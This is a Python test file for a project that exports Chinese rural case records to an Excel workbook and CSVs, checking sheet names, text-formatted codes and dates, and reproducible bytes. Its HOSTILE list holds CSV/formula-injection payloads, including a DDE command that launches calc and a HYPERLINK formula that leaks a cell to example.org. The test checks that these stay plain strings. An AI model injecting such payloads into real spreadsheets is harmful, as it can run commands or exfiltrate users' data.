"""The Excel workbook data/cases.xlsx, read back without any spreadsheet library (zipfile + ElementTree:
the workbook, its shared strings and each sheet's XML), and compared with cases.csv and numbers.csv
written from the same records: Chinese sheet names, headers and labels, text cells for codes and
dates as precise as printed, numbers only where the values are, hostile text that stays a string,
and the same bytes from two writes."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import yaml

from casebook import xlsx
from casebook.export import cases_csv, csv_record_text, numbers_csv
from casebook.index import build_catalog
from casebook.model import build_case
from casebook.site import load_cases
from casebook.vocab import vocabulary

from .conftest import CORPUS, EPOCH, FIXTURES
from .test_english import HanOutsideZh

M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
R_ID = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PKG_REL = "{http://schemas.openxmlformats.org/package/2006/relationships}"
TEXT_FORMAT = 49  # the built-in number format "@" (text)
HAN = re.compile("[\u4e00-\u9fff]")
SHEETS = ["案例", "数字", "字段说明"]
SHEET_KEYS = {"案例": "cases", "数字": "numbers"}  # the sheets' keys in casebook/data/fields.yaml


# --- a reader: just enough of SpreadsheetML to see what Excel would see ------------------------------


@dataclass(frozen=True)
class Cell:
    type: str  # "s" shared string, "inlineStr", "n" number, "str" formula result, "b", "e"
    value: str | float
    style: int
    formula: bool


_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _unescape(text: str) -> str:
    """OOXML's _xHHHH_ escapes (xlsxwriter writes a literal "_x0041_" as "_x005F_x0041_")."""
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def _si_text(si: ET.Element) -> str:
    """A shared string: its one <t>, or the <t> of every run of a rich string, joined."""
    return _unescape("".join(t.text or "" for t in si.iter(f"{M}t")))


def _col(ref: str) -> int:
    n = 0
    for ch in re.match(r"[A-Z]+", ref).group():
        n = n * 26 + ord(ch) - 64
    return n - 1


@dataclass
class Book:
    sheets: dict[str, list[list[Cell | None]]]
    number_formats: list[int]  # cellXfs index → numFmtId
    parts: dict[str, bytes]

    def text(self, sheet: str) -> list[list[str | float]]:
        """The sheet's values, "" for an empty cell."""
        return [[c.value if c else "" for c in row] for row in self.sheets[sheet]]


def read_xlsx(data: bytes) -> Book:
    z = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: z.read(name) for name in z.namelist()}
    shared = []
    if "xl/sharedStrings.xml" in parts:
        shared = [_si_text(si) for si in ET.fromstring(parts["xl/sharedStrings.xml"]).findall(f"{M}si")]
    rels = {
        r.get("Id"): r.get("Target")
        for r in ET.fromstring(parts["xl/_rels/workbook.xml.rels"]).iter(f"{PKG_REL}Relationship")
    }
    styles = ET.fromstring(parts["xl/styles.xml"])
    number_formats = [int(xf.get("numFmtId", 0)) for xf in styles.find(f"{M}cellXfs").findall(f"{M}xf")]
    sheets = {}
    for sheet in ET.fromstring(parts["xl/workbook.xml"]).find(f"{M}sheets"):
        root = ET.fromstring(parts["xl/" + rels[sheet.get(R_ID)].lstrip("/").removeprefix("xl/")])
        rows: list[list[Cell | None]] = []
        for row in root.iter(f"{M}row"):
            index = int(row.get("r")) - 1
            while len(rows) <= index:
                rows.append([])
            cells = rows[index]
            for c in row.findall(f"{M}c"):
                col = _col(c.get("r"))
                kind = c.get("t", "n")
                v = c.findtext(f"{M}v")
                if kind == "s":
                    value: str | float = shared[int(v)]
                elif kind == "inlineStr":
                    value = _si_text(c.find(f"{M}is"))
                elif kind == "n":
                    value = float(v)
                else:
                    value = v or ""
                while len(cells) <= col:
                    cells.append(None)
                cells[col] = Cell(kind, value, int(c.get("s", 0)), c.find(f"{M}f") is not None)
        sheets[sheet.get("name")] = rows
    return Book(sheets, number_formats, parts)


def _pad(row: list, n: int) -> list:
    return row + [None] * (n - len(row))


def _records(book: Book, sheet: str) -> list[dict[str, Cell | None]]:
    """The sheet's rows keyed by column (the CSV field, or the workbook-only key), read back."""
    spec = xlsx._sheet(SHEET_KEYS[sheet])["columns"]
    columns = [xlsx.column_key(c) for c in spec]
    header, *rows = book.sheets[sheet]
    assert [c.value for c in header] == [c["zh"] for c in spec]
    return [dict(zip(columns, _pad(row, len(columns)), strict=True)) for row in rows]


def _csv_rows(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _s(cell: Cell | None) -> str:
    """A text cell's text ("" for an empty cell); fails on anything but a string cell."""
    if cell is None:
        return ""
    assert cell.type in ("s", "inlineStr") and not cell.formula, cell
    return cell.value


# --- catalogs ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus_catalog():
    return build_catalog(load_cases(CORPUS), related=False)


@pytest.fixture(scope="module")
def corpus_book(corpus_catalog) -> Book:
    return read_xlsx(xlsx.cases_xlsx(corpus_catalog, datetime(2026, 1, 1, tzinfo=UTC)))


def _fixture_data(name: str = "guizhou/fx-longli-drivers-home.yaml") -> dict:
    return yaml.safe_load((FIXTURES / "cases" / name).read_text(encoding="utf-8"))


def _catalog(*records: dict):
    return build_catalog([build_case(d, f"cases/x/{d['id']}.yaml") for d in records], related=False)


# --- the built site's workbook ------------------------------------------------------------------------------


def test_the_site_offers_the_workbook_with_chinese_sheets_and_headers(fixture_site):
    book = read_xlsx((fixture_site / xlsx.XLSX_PATH).read_bytes())
    assert list(book.sheets) == SHEETS
    for name in SHEETS[:2]:
        header = book.sheets[name][0]
        assert all(c.type == "s" and HAN.search(c.value) for c in header), [c.value for c in header]
    cases = book.text("案例")[0]
    assert {"编号", "标题", "区划代码", "实施主体层级", "模式名称来源", "报道时间"} <= set(cases)
    assert {"案例标题", "省份", "市", "县（区）", "区划代码", "原文写法", "数值", "限定"} <= set(book.text("数字")[0])


def test_the_site_workbook_matches_its_csvs_row_for_row(fixture_site):
    book = read_xlsx((fixture_site / xlsx.XLSX_PATH).read_bytes())
    _same_cases(_records(book, "案例"), _csv_rows((fixture_site / "data/cases.csv").read_bytes()))
    _same_figures(_records(book, "数字"), _csv_rows((fixture_site / "data/numbers.csv").read_bytes()))


def test_the_site_workbook_is_dated_by_source_date_epoch(fixture_site):
    book = read_xlsx((fixture_site / xlsx.XLSX_PATH).read_bytes())
    expected = datetime.fromtimestamp(int(EPOCH), UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    core = book.parts["docProps/core.xml"].decode()
    assert f">{expected}</dcterms:created>" in core and f">{expected}</dcterms:modified>" in core


# --- row for row with the CSVs (the frozen corpus: 6-, 9- and 12-digit codes, every date precision) --------

PROVENANCE = {"printed": "原文印出", "label": "编者概括"}
INFERRED = {"true": "推断", "false": "原文印出"}


def _same_cases(rows: list[dict], csv_rows: list[dict]) -> None:
    assert len(rows) == len(csv_rows) and rows
    for row, want in zip(rows, csv_rows, strict=True):
        for field in ("id", "title", "model", "province", "city", "county", "town", "village", "actor", "summary"):
            assert _s(row[field]) == csv_record_text(want[field]), field
        for field in ("region_code", "started", "reported", "year", "added", "updated", "url"):
            assert _s(row[field]) == want[field], field  # codes and dates: text, exactly as in the CSV
        assert _s(row["theme"]) == vocabulary("themes").get(want["theme"]).zh
        assert _s(row["actor_level"]) == vocabulary("actor-levels").get(want["actor_level"]).zh
        assert _s(row["groups"]).split("、") == [vocabulary("groups").get(g).zh for g in want["groups"].split(";")]
        assert _s(row["topics"]).split("、") == [vocabulary("topics").get(g).zh for g in want["topics"].split(";")]
        assert _s(row["model_provenance"]) == PROVENANCE[want["model_provenance"]]
        assert _s(row["actor_inferred"]) == INFERRED[want["actor_inferred"]]
        assert _s(row["model_parts"]).split("；") == csv_record_text(want["model_parts"]).split(" / ")
        for field in ("measures", "numbers"):
            assert row[field].type == "n" and row[field].value == float(want[field])


def _same_figures(rows: list[dict], csv_rows: list[dict]) -> None:
    assert len(rows) == len(csv_rows) and rows
    for row, want in zip(rows, csv_rows, strict=True):
        for field in ("case_title", "province", "city", "county", "town", "village", "subject", "printed", "unit"):
            assert _s(row[field]) == csv_record_text(want[field]), field
        for field in ("before_printed", "after_printed", "source_title"):
            assert _s(row[field]) == csv_record_text(want[field]), field
        for field in ("case_id", "region_code", "date", "before_date", "after_date"):
            assert _s(row[field]) == want[field], field
        for field in ("value", "low", "high"):
            if want[field] == "":
                assert row[field] is None, field
            else:
                assert row[field].type == "n" and row[field].value == float(want[field]), field
        indicator = want["indicator"]
        assert _s(row["indicator"]) == (vocabulary("indicators").get(indicator).zh if indicator else "")
        qualifier = want["qualifier"]
        assert _s(row["qualifier"]) == ("变化" if qualifier == "change" else vocabulary("qualifiers").get(qualifier).zh)
        assert _s(row["date_inferred"]) == (INFERRED[want["date_inferred"]] if want["date"] else "")


def test_corpus_workbook_matches_the_csvs_row_for_row(corpus_catalog, corpus_book):
    _same_cases(_records(corpus_book, "案例"), _csv_rows(cases_csv(corpus_catalog)))
    figures = _csv_rows(numbers_csv(corpus_catalog))
    assert len(figures) > 100  # the corpus has figures of every kind to compare
    _same_figures(_records(corpus_book, "数字"), figures)


def test_codes_and_dates_are_text_cells_in_the_text_format(corpus_book):
    rows = _records(corpus_book, "案例")
    codes = [r["region_code"] for r in rows]
    assert {len(c.value) for c in codes} >= {6, 9, 12}  # the corpus holds county, town and village codes
    dates = [r[f] for r in rows for f in ("started", "reported", "added") if r[f] is not None]
    assert {len(c.value) for c in dates} == {4, 7, 10}  # 2022, 2022-12, 2022-12-06: never padded to a day
    figures = _records(corpus_book, "数字")
    dates += [r["date"] for r in figures if r["date"] is not None]
    for cell in codes + dates + [r["case_id"] for r in figures]:
        assert cell.type == "s" and not cell.formula, cell
        assert corpus_book.number_formats[cell.style] == TEXT_FORMAT, cell
    assert any(len(c.value) == 7 for c in dates)


def test_labels_are_chinese_never_slugs(corpus_book):
    slugs = {
        t.slug for kind in ("qualifiers", "actor-levels", "themes", "groups", "topics") for t in vocabulary(kind).terms
    }
    slugs |= {"printed", "label", "true", "false", "change"}
    for sheet in SHEETS[:2]:
        for row in corpus_book.text(sheet)[1:]:
            assert not slugs & {v for v in row if isinstance(v, str)}, row
    values = {v for row in corpus_book.text("数字")[1:] for v in row}
    assert "多于" in values and "more-than" not in values
    levels = {row["actor_level"].value for row in _records(corpus_book, "案例")}
    assert levels <= {t.zh for t in vocabulary("actor-levels").terms}


def test_numbers_only_in_the_value_columns_and_the_counts(corpus_book):
    numeric = {"value", "low", "high", "measures", "numbers"}
    for sheet in SHEETS[:2]:
        for row in _records(corpus_book, sheet):
            for key, cell in row.items():
                if cell is not None:
                    assert (cell.type == "n") == (key in numeric), (sheet, key, cell)
                    assert not cell.formula


# --- hostile text --------------------------------------------------------------------------------------------

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"点此")',
    "+1",
    "-2",
    "@x",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "1E5",
    "0123",
    "https://example.org/x",
    "<r><t>x</t></r>",
    "_x0041_ & <b>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_a_string_cell(text):
    data = _fixture_data()
    data["title"] = text
    data["model"]["name"] = text
    data["summary"] = text
    data["actor"]["name"] = text
    data["numbers"][0]["subject"] = text
    data["numbers"][0]["printed"] = text
    data["numbers"][0]["unit"] = text
    data["numbers"][1]["value"] = -3  # a number column may start with "-" and stays a number
    data["sources"][0]["title"] = text
    book = read_xlsx(xlsx.cases_xlsx(_catalog(data)))
    (case,) = _records(book, "案例")
    for field in ("title", "model", "summary", "actor"):
        assert _s(case[field]) == text, field  # exactly the record's text: no leading ' in a string cell
    first, second = _records(book, "数字")
    for field in ("case_title", "subject", "printed", "unit", "source_title"):
        assert _s(first[field]) == text, field
    assert second["value"].type == "n" and second["value"].value == -3
    for name, part in book.parts.items():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in part and b"<f " not in part and b"hyperlink" not in part, name
    assert not any("worksheets/_rels" in name for name in book.parts)  # no links anywhere


def test_vocabulary_and_provenance_words_from_the_data_files():
    data = _fixture_data("shaanxi/fx-fufeng-sanjia.yaml")
    data["model"] = {"label": "三家工程"}
    data["actor"]["inferred"] = True
    data["actor"]["level"] = "street-town"
    data["period"] = {"started": "2021", "reported": "2022-12", "inferred": ["started"]}
    data["numbers"] = [
        {"subject": "快递员", "value": 30, "qualifier": "more-than", "unit": "名", "printed": "30余名"},
        {"subject": "服务", "value": 3, "unit": "次", "printed": "3次", "date": "2022-12-06", "inferred": ["date"]},
    ]
    data["numbers"][0]["indicator"] = "volunteers"
    book = read_xlsx(xlsx.cases_xlsx(_catalog(data)))
    (case,) = _records(book, "案例")
    assert (_s(case["model"]), _s(case["model_provenance"])) == ("三家工程", "编者概括")
    assert (_s(case["actor_inferred"]), _s(case["actor_level"])) == ("推断", "街道、乡镇")
    assert [_s(case[k]) for k in ("started", "started_provenance", "reported", "reported_provenance")] == [
        "2021",
        "推断",
        "2022-12",
        "原文印出",
    ]
    first, second = _records(book, "数字")
    assert (_s(first["qualifier"]), _s(first["date"]), _s(first["date_inferred"])) == ("多于", "", "")
    assert (_s(second["qualifier"]), _s(second["date"]), _s(second["date_inferred"])) == ("确数", "2022-12-06", "推断")
    assert (_s(first["indicator"]), _s(second["indicator"])) == (vocabulary("indicators").get("volunteers").zh, "")
    (row, _) = _csv_rows(numbers_csv(_catalog(data)))
    assert row["indicator"] == "volunteers"  # the CSV keeps the slug, for programs


# --- the field guide ----------------------------------------------------------------------------------------------


def test_field_guide_sheet_names_every_column_and_csv_field(corpus_catalog, corpus_book):
    guide = corpus_book.text("字段说明")
    assert guide[0][0] == "字段说明"
    header_at = next(i for i, row in enumerate(guide) if row[:2] == ["工作表", "列名"])
    table = [row for row in guide[header_at + 1 :] if row]
    listed = {(row[0], row[1]) for row in table}
    for name in SHEETS[:2]:
        assert {(name, h) for h in corpus_book.text(name)[0]} <= listed
    fields = {row[2] for row in table}
    for csv_name, raw in (("cases.csv", cases_csv(corpus_catalog)), ("numbers.csv", numbers_csv(corpus_catalog))):
        header = raw.decode("utf-8-sig").split("\r\n", 1)[0].split(",")
        assert {f"{csv_name}：{field}" for field in header} <= fields, csv_name  # every CSV column explained
    values = " ".join(str(v) for row in table for v in row)
    assert "街道、乡镇" in values and "多于" in values and "变化" in values
    assert "原文印出" in values and "编者概括" in values and "推断" in values


# --- reproducible bytes ------------------------------------------------------------------------------------------


def test_two_writes_are_byte_identical_and_dated_by_source_date_epoch(monkeypatch):
    catalog = _catalog(_fixture_data(), _fixture_data("beijing/fx-changping.yaml"))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    first = xlsx.cases_xlsx(catalog)
    assert xlsx.cases_xlsx(catalog) == first
    z = zipfile.ZipFile(io.BytesIO(first))
    assert {info.date_time for info in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = z.read("docProps/core.xml").decode()
    assert ">2023-11-14T22:13:20Z</dcterms:created>" in core
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    other = zipfile.ZipFile(io.BytesIO(xlsx.cases_xlsx(catalog)))
    changed = {n for n in z.namelist() if z.read(n) != other.read(n)}
    assert changed == {"docProps/core.xml"}  # the epoch is the only time in the file


def test_without_source_date_epoch_the_newest_case_dates_the_file(monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    late = _fixture_data("beijing/fx-changping.yaml")
    late["added"] = "2026-12-24"
    core = zipfile.ZipFile(io.BytesIO(xlsx.cases_xlsx(_catalog(_fixture_data(), late)))).read("docProps/core.xml")
    assert b">2026-12-24T00:00:00Z</dcterms:created>" in core


# --- the 字段说明 page beside the downloads ----------------------------------------------------------------------


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href")
        if tag == "a" and href:
            self.hrefs.append(href)

    def handle_data(self, data):
        self.text.append(data)


def _targets(site: Path, page: str) -> tuple[set[str], str]:
    parser = _Links()
    parser.feed((site / page).read_text(encoding="utf-8"))
    out = set()
    for href in parser.hrefs:
        parts = urlsplit(href)
        if parts.scheme or not parts.path:
            continue
        target = ((site / page).parent / unquote(parts.path)).resolve()
        if target.is_relative_to(site.resolve()) and target.is_file():
            out.add(target.relative_to(site.resolve()).as_posix())
    return out, "".join(parser.text)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_field_guide_page_explains_every_column_beside_the_downloads(fixture_site, lang):
    prefix = "" if lang == "zh" else "en/"
    targets, text = _targets(fixture_site, f"{prefix}data/fields.html")
    assert {"data/cases.xlsx", "data/cases.csv", "data/numbers.csv", "data/cases.json"} <= targets
    for sheet in xlsx.field_guide()["sheets"]:
        for column in sheet["columns"]:
            assert column["zh"] in text and column["about"][lang] in text
            if column.get("field"):
                assert column["field"] in text
    assert ("字段说明" if lang == "zh" else "Field guide") in text
    if lang == "en":  # the workbook's Chinese words quoted on the English page are marked as Chinese
        parser = HanOutsideZh()
        parser.feed((fixture_site / "en/data/fields.html").read_text(encoding="utf-8"))
        assert parser.found == []
    home, _ = _targets(fixture_site, f"{prefix}index.html")
    assert {"data/cases.xlsx", f"{prefix}data/fields.html"} <= home, (
        "the home page's downloads link the workbook and guide"
    )
